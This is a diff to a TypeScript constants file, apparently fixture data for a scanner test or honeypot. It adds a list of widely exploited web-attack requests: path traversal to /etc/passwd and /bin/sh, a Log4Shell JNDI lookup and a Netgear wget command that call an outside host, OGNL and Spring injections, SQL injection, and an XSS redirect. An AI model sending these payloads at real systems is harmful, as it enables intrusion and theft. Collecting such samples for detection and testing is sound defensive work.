@@ -199,6 +199,26 @@ export const EXPLOIT_PATHS = [
   '/debug/pprof/',
 ] as const;
 
+/** Requests with the payloads of flaws that were exploited widely, as their advisories and honeypots show them. */
+export const EXPLOITS = [
+  ['POST', '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh'],
+  ['GET', '/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd'],
+  ['GET', '/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/etc/passwd'],
+  ['GET', '/public/plugins/alertlist/../../../../../../../../etc/passwd'],
+  ['GET', '/?x=${jndi:ldap://198.18.255.7:1389/a}'],
+  ['GET', '/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/'],
+  ['GET', '/?class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp'],
+  ['POST', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php'],
+  ['POST', '/_ignition/execute-solution'],
+  ['GET', '/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=wget+http://198.18.255.7/m&curpath=/'],
+  ['GET', '/products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20'],
+  ['GET', '/products?id=1%20AND%20SLEEP(5)'],
+  ['GET', '/download?file=../../../../../../etc/passwd'],
+  ['GET', '/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession'],
+  ['GET', '/search?q=%3Cscript%3Edocument.location%3D%27//198.18.255.7/%27%3C/script%3E'],
+  ['POST', '/wls-wsat/CoordinatorPortType'],
+] as const;
+
 export const DOMAINS = [
   'www.example.org',
   'mail.example.org',
